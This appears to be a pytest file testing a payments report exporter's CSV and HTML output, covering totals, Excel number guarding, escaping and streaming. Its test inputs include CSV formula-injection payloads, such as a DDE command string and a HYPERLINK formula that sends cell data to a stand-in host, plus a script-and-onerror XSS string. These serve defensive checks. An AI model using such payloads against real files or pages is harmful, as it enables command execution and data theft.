"""Tables as CSV and as a page: read back by the readers of the standard library."""

import csv
import io
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from payments.reports.csv_text import FORMULA_STARTS, csv_text, guarded, kept
from payments.reports.html_page import html_page
from payments.reports.tables import Column, Kind, Table, Tally, TooManyGroups

LINES = (("sale", 3800, 14), ("back", -947, -4), ("sale", 1000, 4))


def as_csv(table, amount_format="minor", *, bom=False):
    return "".join(csv_text(table, Tally(table), amount_format, bom=bom))


def read(text):
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_a_table_is_read_back_with_its_totals(table):
    """A header, the rows, an empty line, a line of totals a currency; CRLF between them."""
    text = as_csv(table(*LINES))
    assert [
        ["id", "word", "currency", "count", "gross", "fee", "net"],
        ["1", "sale", "cny", "1", "3800", "14", "3786"],
        ["2", "back", "cny", "1", "-947", "-4", "-943"],
        ["3", "sale", "cny", "1", "1000", "4", "996"],
        [],
        ["total", "", "cny", "3", "3853", "14", "3839"],
    ] == read(text)
    assert text.count("\r\n") == text.count("\n") == 6


def test_decimals_are_written_when_asked_for(table):
    """Amounts alone; counts stay counts."""
    assert ["2", "back", "cny", "1", "-9.47", "-0.04", "-9.43"] == read(
        as_csv(table(*LINES), "decimal")
    )[2]


def test_excel_is_told_that_the_text_is_unicode(table):
    """A byte order mark in front, and only when asked for."""
    text = as_csv(table(("牛肉面", 1, 0)), bom=True)
    assert text.encode().startswith(b"\xef\xbb\xbfid,")
    assert "牛肉面" == read(text.encode().decode("utf-8-sig"))[1][1]
    assert not as_csv(table()).startswith("\ufeff")


CHANGED = ["000123", "4200000003202611228106345230", "1234567890123456", "1E5", "1.5e+10", "3-4",
           "3/4", "12:30", "1-2-3", "2026-1-2", "1 2", "MAR1", "Sept-2", "2 dec",
           "1-Mar-26", "true", "FALSE"]  # fmt: skip
UNCHANGED = ["20261122", "123456789012345", "0", "2026-11-22", "2026-11-22T12:39:01.832Z", "A-1",
             "R-000123", "pay_01M81M7ZSK0005XD8FWWG5T0", "", "牛肉面", "\u0660\u0661", "marble",
             "1-2-x", "3e", "truely"]  # fmt: skip


@pytest.mark.parametrize("text", CHANGED)
def test_excel_is_kept_from_making_a_number_of_text(table, text):
    """Only in the file that is for Excel: programs read the text as it is."""
    made = table((text, 1, 0))
    assert text + "\t" == read(as_csv(made, bom=True))[1][1]
    assert text == read(as_csv(table((text, 1, 0))))[1][1]


@pytest.mark.parametrize("text", UNCHANGED)
def test_what_excel_leaves_alone_is_left_alone(text):
    assert text == kept(text)


def test_amounts_stay_numbers_for_excel(table):
    """A zero, and a decimal that looks like a date in other countries."""
    assert ["1", "0.05", "0.00", "0.05"] == read(
        as_csv(table(("sale", 5, 0)), "decimal", bom=True)
    )[1][-4:]


FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://example.test?"&A1)']  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_text_is_never_a_formula(table, text):
    """In a cell or in a heading; and what stood there is still to be read."""
    made = table((text, 1, 0))
    made.columns = (*made.columns[:1], Column(text), *made.columns[2:])
    made.groupings, made.extracts = {}, {}
    heading, row = read(as_csv(made))[:2]
    assert ("'" + text, "'" + text) == (heading[1], row[1])
    assert "'" + text == kept(text)


@given(st.text(st.characters(exclude_characters="\0", exclude_categories=("Cs",)), max_size=30))
def test_any_text_comes_back_and_begins_like_no_formula(text):
    """Quotes, commas, line ends and all."""
    columns = (Column("id"), Column("text"), Column("currency"), Column("n", Kind.AMOUNT))
    rows = iter([("1", text, "cny", -5)])
    _, row = read(as_csv(Table(type="t.1", columns=columns, rows=rows, key="id")))
    assert ["1", guarded(text), "cny", "-5"] == row
    assert not row[1].startswith(FORMULA_STARTS)
    assert text == (row[1] if row[1] == text else row[1][1:])


class Page(HTMLParser):
    """What a browser would show: tables as lists of rows, and every tag."""

    def __init__(self, text):
        super().__init__()
        self.tables, self.tags, self._cell = [], [], None
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "table":
            self.tables.append([])
        elif tag == "tr":
            self.tables[-1].append([])
        elif tag in ("td", "th"):
            self._cell = ""

    def handle_endtag(self, tag):
        if tag in ("td", "th"):
            self.tables[-1][-1].append(self._cell)
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell += data


def as_page(table, amount_format="minor", **about):
    return "".join(html_page(table, Tally(table), amount_format, title="A <day>", about=about))


def test_a_page_shows_the_rows_and_their_sums(table):
    """The last line is what the rows above add up to; the groups add up to the same."""
    items, words = Page(as_page(table(*LINES))).tables
    for at in range(3, 7):
        assert int(items[-1][at]) == sum(int(row[at]) for row in items[1:-1])
    assert [
        ["word", "currency", "rows", "count", "gross", "fee", "net"],
        ["back", "cny", "1", "1", "-947", "-4", "-943"],
        ["sale", "cny", "2", "2", "4800", "18", "4782"],
    ] == words


def test_a_page_is_one_file_and_escapes_everything(table):
    """Whatever a shop calls its noodles: nothing runs, nothing is fetched."""
    evil = '<script src="http://x.test/a.js"></script>&<img onerror=alert(1)>'
    text = as_page(table((evil, 1, 0)), merchant=evil)
    page = Page(text)
    assert evil == page.tables[0][1][1]
    assert not {"script", "img", "link", "iframe", "object"} & {tag for tag, _ in page.tags}
    assert not [attrs for _, attrs in page.tags if {"src", "href"} & attrs.keys()]
    policy = next(attrs["content"] for tag, attrs in page.tags if "http-equiv" in attrs)
    assert "default-src 'none'" in policy


@pytest.mark.parametrize("write", [as_csv, as_page])
def test_an_empty_table_is_a_table(table, write):
    """No rows, no totals, no error."""
    text = write(table())
    assert "gross" in text
    assert "total" not in text


def test_too_many_groups_are_refused(table):
    """Rather than kept in memory without end."""
    made = table(*((f"word {no}", 1, 0) for no in range(10_001)))
    with pytest.raises(TooManyGroups, match="10000"):
        as_csv(made)


@pytest.mark.parametrize("write", [csv_text, html_page])
def test_a_hundred_thousand_rows_are_written_as_they_come(table, write):
    """No row is read before the one before it has been written, so none is kept."""
    ahead = read_so_far = size = 0

    def rows():
        nonlocal read_so_far
        for no in range(100_000):
            read_so_far += 1
            yield str(no), "w" * 60, "cny", 1, no, 1, no - 1

    made = Table(type="test.1", columns=table().columns, rows=rows(), key="id", totals=True)
    tally = Tally(made)
    more = {"bom": False} if write is csv_text else {"title": "t", "about": {}}
    for written, piece in enumerate(write(made, tally, "minor", **more)):
        ahead = max(ahead, read_so_far - written)
        size += len(piece)
    assert (100_000, sum(range(100_000))) == (tally.rows, tally.sums()["cny"]["gross"])
    assert size > 8_000_000
    assert ahead <= 1
